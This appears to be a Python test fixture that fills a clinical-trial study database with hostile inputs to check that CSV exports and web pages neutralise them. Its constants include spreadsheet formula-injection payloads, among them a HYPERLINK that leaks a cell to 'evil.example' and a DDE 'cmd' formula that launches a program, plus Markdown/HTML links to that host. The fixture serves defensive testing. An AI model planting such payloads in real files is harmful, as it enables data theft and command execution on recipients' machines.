"""A study whose every free-text field holds what an attacker would type: spreadsheet formulas (for
the CSV tests) and Markdown/HTML links and images (for the page tests). Everything goes in through
the normal paths: upload files of real CSV bytes, corrections with a reason, data queries, accounts.

- AE verbatim terms, preferred terms and organ classes, evaluator ids, randomization numbers and
  strata hold :data:`FORMULAS` (a reader strips a cell's spaces, so tab and CR survive only in the
  fields below), one plain negative number, which must stay a number, and :data:`MARKDOWN`;
- file names, the correction's reason, the query texts and the accounts' full names hold formulas
  with a leading tab or CR too, and :data:`MARKDOWN`;
- one file is rejected, so its findings quote a formula.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

from helpers import HAIR_COUNTS_HEADER, HAIR_COUNTS_ROWS, RANDOMIZATION_HEADER, SUBJECTS_HEADER, SUBJECTS_ROWS, load, new_store

from schemas import DOMAINS
from trial.governance import data_queries as dq
from trial.governance.users import add_user
from trial.store import Store

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
FORMULAS = (HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=cmd|' /C calc'!A0", "\r=1+1")
PLAIN_NUMBER = "-3"  # text that is a number: stays a number
MARKDOWN = "[x](http://evil.example) ![i](http://evil.example/p.png) <b>b</b>"
PASSWORD = "correct horse battery"
ACCOUNTS = {  # user name → roles, site, full name
    "ada": (["ADMIN"], None, MARKDOWN),
    "stat": (["STATISTICIAN"], None, HYPERLINK),
    "mona": (["MONITOR"], None, "\t=mona"),
    "sam": (["SITE_STAFF"], "S01", "@sam"),
}
CORRECTION_FILE = MARKDOWN + ".csv"  # a file name, shown where an answer cites it
CORRECTION_REASON = "\r=1+1 transcription error"
QUERY_TEXTS = (MARKDOWN, "-2+3 please check", "@SUM(A1:A9)")  # open, answer, close


def _csv(header: str, rows: list[list[str]]) -> bytes:
    out = io.StringIO(newline="")
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(header.split(","))
    writer.writerows(rows)
    return out.getvalue().encode("utf-8")


def _split(rows: list[str]) -> list[list[str]]:
    return [row.split(",") for row in rows]


def hostile_store(folder: Path) -> Path:
    """``folder/study.duckdb`` (the demo study) filled as the module says; returns its path."""
    db = folder / "study.duckdb"
    store = new_store(db)
    try:
        _fill(store)
    finally:
        store.close()
    return db


def _loaded(store: Store, data: bytes, name: str, **options) -> int:
    result = load(store, data, name=name, **options)
    assert result.status == "loaded", (name, [f.sentence for f in result.findings])
    return result.upload_id


def _fill(store: Store) -> None:
    _loaded(store, _csv(SUBJECTS_HEADER, _split(SUBJECTS_ROWS)), "+subjects.csv")
    numbers = [HYPERLINK, "@R002", MARKDOWN, "-R004"]
    strata = ["+1+1", "-2+3", "=A1", ""]
    rand = [["S01", "S01-001", "2024-01-10", "MINOX"], ["S01", "S01-002", "2024-01-10", "MINOX_MN"],
            ["S01", "S01-003", "2024-01-12", "MINOX"], ["S02", "S02-001", "2024-01-15", "MINOX_MN"]]
    _loaded(store, _csv(RANDOMIZATION_HEADER, [r + [n, s] for r, n, s in zip(rand, numbers, strata, strict=True)]),
            "-randomization.csv")
    counts = _split(HAIR_COUNTS_ROWS) + [["S01", s, "WEEK_12", "2024-04-03", "TARGET", "1", n, "", "", "", "-EV4"]
                                         for s, n in (("S01-001", "140"), ("S01-002", "165"))]  # the primary visit
    for row, evaluator in zip(counts, ["=EV1()", "\t@EV2", "+EV3", PLAIN_NUMBER], strict=False):
        row[-1] = evaluator
    _loaded(store, _csv(HAIR_COUNTS_HEADER, counts), "\t=hair_counts.csv")
    counts[0][6] = str(int(counts[0][6]) + 7)  # S01-001 BASELINE: a correction, with a reason…
    counts[0][-1] = PLAIN_NUMBER  # …of the evaluator too: "=EV1()" → "-3" in the audit trail
    correction = _loaded(store, _csv(HAIR_COUNTS_HEADER, counts), CORRECTION_FILE, reason=CORRECTION_REASON)
    ae_header = ",".join(DOMAINS["adverse_events"].column_names)
    events = [
        ["S01", "S01-001", "1", HYPERLINK, "=Erythema()", "+Skin", "2024-01-20", "2024-01-25", "MILD", "N", "POSSIBLE", "MINOXIDIL", "NONE", "RECOVERED"],
        ["S01", "S01-002", "1", "@scalp itch", "-Pruritus", "-Skin", "2024-01-21", "", "MODERATE", "N", "PROBABLE", "MICRONEEDLING", "NONE", "RECOVERING"],
        ["S01", "S01-002", "2", MARKDOWN, MARKDOWN, "Skin", "2024-01-22", "2024-01-30", "MILD", "N", "UNLIKELY", "OTHER", "NONE", "RECOVERED"],
    ]
    _loaded(store, _csv(ae_header, events), "@adverse_events.csv")
    bad = _split(SUBJECTS_ROWS[:1])
    bad[0][5] = "=X"  # sex: not M or F; the finding quotes it
    rejected = load(store, _csv(SUBJECTS_HEADER, bad), name="\r+rejected.csv")
    assert rejected.status == "rejected"

    people = {name: add_user(store, name, PASSWORD, roles, site_id=site, full_name=full, by="setup")
              for name, (roles, site, full) in ACCOUNTS.items()}
    asked, answer, closing = QUERY_TEXTS
    first = dq.open_query(store, people["mona"], subject_id="S01-001", table_name="hair_counts",
                          record_key="S01-001 / BASELINE / TARGET", column_name="hair_count", text=asked)
    dq.answer_query(store, people["sam"], first, answer, upload_id=correction)
    dq.close_query(store, people["mona"], first, closing)
    dq.open_query(store, people["mona"], subject_id="S01-002", table_name="hair_counts",
                  record_key="S01-002 / WEEK_4 / TARGET", column_name="evaluator_id", text=HYPERLINK)
